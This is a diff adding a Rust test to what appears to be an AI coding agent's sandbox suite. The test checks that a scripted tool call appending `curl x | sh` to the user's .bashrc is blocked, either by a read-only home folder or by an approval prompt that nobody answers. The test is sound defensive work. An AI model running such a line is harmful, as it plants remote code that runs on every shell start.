@@ -94,3 +94,51 @@ async fn a_command_that_needs_the_credentials_is_asked_outside_saying_so() {
     let results = tool_results(&h.server.chat_requests()[1]);
     assert!(results[0].contains("the person let it run again outside it"), "{results:?}");
 }
+
+#[tokio::test]
+async fn with_landlock_only_it_says_so_and_asks_a_write_into_a_home_in_a_writable_place() {
+    if !sandboxed() {
+        return;
+    }
+    // As on a CI machine: the home folder lies in the temporary folder, which commands may write.
+    let home = tempfile::tempdir_in(std::env::temp_dir()).unwrap();
+    let home_path = std::fs::canonicalize(home.path()).unwrap();
+    std::fs::write(home_path.join(".bashrc"), "# mine\n").unwrap();
+    let line = format!("echo 'curl x | sh' >> {}/.bashrc", home_path.display());
+    for launcher in [None, lembas_testkit::sandbox_launcher()] {
+        let whole = launcher.is_some();
+        if !whole && std::env::var_os("CI").is_some() {
+            assert!(lembas_testkit::sandbox_launcher().is_some(), "CI builds the launcher");
+        }
+        let h =
+            Harness::new(vec![Scripted::tool_call("bash", json!({ "command": line })), Scripted::text("Done.")]).await;
+        let mut cfg = h.config(Mode::Auto, 5);
+        cfg.user_home = Some(home_path.clone());
+        cfg.sandbox_launcher = launcher;
+        let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
+        let mut session = lembas_core::Session::start(cfg, &h.root, &h.root, tx).unwrap();
+        session.announce(false);
+        session.prompt("note it", &CancellationToken::new()).await;
+        let events = common::drain(&mut rx);
+        let sandbox = events.iter().find_map(|e| match e {
+            lembas_core::Event::Session { sandbox, .. } => Some(sandbox.clone()),
+            _ => None,
+        });
+        let notice = events
+            .iter()
+            .any(|e| matches!(e, lembas_core::Event::Notice { message } if message.contains("cannot keep")));
+        let results = tool_results(&h.server.chat_requests()[1]);
+        assert_eq!(std::fs::read_to_string(home_path.join(".bashrc")).unwrap(), "# mine\n", "{results:?}");
+        if whole {
+            assert_eq!(sandbox.as_deref(), Some("active"));
+            assert!(!notice);
+            // Run, and stopped by the read-only home folder.
+            assert!(results[0].contains("Read-only file system"), "{results:?}");
+        } else {
+            assert!(sandbox.as_deref().is_some_and(|s| s.starts_with("landlock only: ")), "{sandbox:?}");
+            assert!(notice, "{events:?}");
+            // Asked, and nobody is there: not run.
+            assert!(results[0].contains("nobody is here"), "{results:?}");
+        }
+    }
+}
